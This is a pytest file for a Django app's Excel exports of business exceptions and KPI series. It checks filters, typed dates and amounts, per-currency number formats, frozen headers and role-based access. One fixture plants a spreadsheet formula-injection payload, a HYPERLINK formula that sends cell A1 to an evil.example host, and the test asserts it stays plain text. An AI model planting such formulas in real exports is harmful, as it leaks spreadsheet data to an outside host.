"""The Excel exports, read back with openpyxl: the same filters as the CSV, typed cells
(dates, integers, amounts), each amount in its own row's currency format, a frozen header
row, text that looks like a formula kept as text, and the KPI series beside its CSV."""

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from kpis.choices import Period, ScopeType
from kpis.models import KpiSnapshot
from kpis.periods import window_containing
from tests.exceptions.factories import BusinessExceptionFactory, QueueFactory
from tests.factories import IntegrationFactory

pytestmark = pytest.mark.django_db


def _book(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "no-store" in response["Cache-Control"] or "no-cache" in response["Cache-Control"]
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def test_exception_workbook_is_typed_filtered_and_frozen(client_as, cast):
    queue = QueueFactory(name="Billing exceptions")
    integration = IntegrationFactory(name="PSA to ERP invoices")
    seen = timezone.now().replace(microsecond=0) - dt.timedelta(hours=3)
    gbp = BusinessExceptionFactory(integration=integration, queue=queue, severity="critical", currency="GBP",
                                   amount_at_risk=Decimal("1234567.89"), occurrences=3, first_seen=seen, last_seen=seen,
                                   message='=HYPERLINK("http://evil.example/?"&A1,"open")')
    BusinessExceptionFactory(integration=integration, queue=queue, severity="critical", currency="JPY",
                             amount_at_risk=Decimal("150000"), last_seen=seen - dt.timedelta(hours=1))
    BusinessExceptionFactory(integration=integration, queue=queue, severity="low", currency="EUR")  # filtered out
    response = client_as("finance").get("/exceptions/export.xlsx", {"severity": "critical"})
    assert response.streaming and 'filename="exceptions.xlsx"' in response["Content-Disposition"]
    sheet = _book(response)["Exceptions"]
    assert sheet.freeze_panes == "A2"
    rows = list(sheet.iter_rows(values_only=False))
    header = [c.value for c in rows[0]]
    assert header[:4] == ["Exception", "Status", "Severity", "Queue"] and "First seen (UTC)" in header
    assert all(c.font.b for c in rows[0])
    assert len(rows) == 3  # the header and the two critical ones, newest first
    col = {name: i for i, name in enumerate(header)}
    first, second = rows[1], rows[2]
    assert first[col["Exception"]].value == f"EXC-{gbp.pk}" and first[col["Severity"]].value == "Critical"
    assert first[col["Integration"]].value == "PSA to ERP invoices" and first[col["Queue"]].value == "Billing exceptions"
    amount = first[col["Amount at risk"]]
    assert amount.data_type == "n" and amount.value == pytest.approx(1234567.89)
    assert amount.number_format == '#,##0.00 "GBP"'
    assert second[col["Amount at risk"]].number_format == '#,##0 "JPY"'  # no minor unit
    assert second[col["Amount at risk"]].value == 150000
    last_seen = first[col["Last seen (UTC)"]]
    assert last_seen.is_date and last_seen.value == seen.astimezone(dt.UTC).replace(tzinfo=None)
    assert last_seen.number_format == "yyyy-mm-dd hh:mm:ss"
    assert first[col["Occurrences"]].value == 3 and first[col["Occurrences"]].data_type == "n"
    message = first[col["Message"]]
    assert message.data_type == "s" and message.value.startswith("=HYPERLINK")  # text, never a formula
    assert client_as("executive").get("/exceptions/export.xlsx").status_code == 403


def test_exception_list_offers_excel_beside_csv(client_as, cast):
    page = client_as("finance").get("/exceptions/list/", {"severity": "high"}).content.decode()
    assert 'href="/exceptions/export.xlsx?severity=high"' in page and "Download Excel" in page
    assert 'href="/exceptions/export.csv?severity=high"' in page


def test_kpi_workbook_has_dates_numbers_and_the_reporting_currency(client_as, cast, settings):
    settings.REPORTING_CURRENCY = "EUR"
    week = window_containing(Period.WEEK, timezone.now().date() - dt.timedelta(days=7))
    KpiSnapshot.objects.create(key="approved-time-to-invoice", scope_type=ScopeType.ALL, period=Period.WEEK,
                               period_start=week.start, value=Decimal("60.5"), detail={"count": 12, "p90": 80.25})
    KpiSnapshot.objects.create(key="revenue-at-risk", scope_type=ScopeType.ALL, period=Period.WEEK,
                               period_start=week.start, value=Decimal("1234568.8900"), detail={"count": 3})
    client = client_as("executive")
    span = {"period": "week", "from": str(week.start), "to": str(week.start)}
    sheet = _book(client.get("/kpis/approved-time-to-invoice/export.xlsx", span)).active
    header = [c.value for c in sheet[1]]
    assert header == ["Period", "Period start", "Approved time to invoice (hours)", "Count", "P90"]
    assert sheet.freeze_panes == "A2"
    period, start, value, count, p90 = sheet[2]
    assert period.value == "week" and start.is_date and start.value.date() == week.start
    assert value.data_type == "n" and value.value == pytest.approx(60.5)
    assert count.value == 12 and p90.value == pytest.approx(80.25)
    money = _book(client.get("/kpis/revenue-at-risk/export.xlsx", span)).active
    assert money["C1"].value.endswith("(EUR)")
    assert money["C2"].value == pytest.approx(1234568.89) and money["C2"].number_format == '#,##0.00 "EUR"'
    page = client.get("/kpis/revenue-at-risk/", span).content.decode()
    assert "/kpis/revenue-at-risk/export.xlsx?period=week" in page and "Download Excel" in page
    assert client_as("outsider").get("/kpis/revenue-at-risk/export.xlsx").status_code == 403
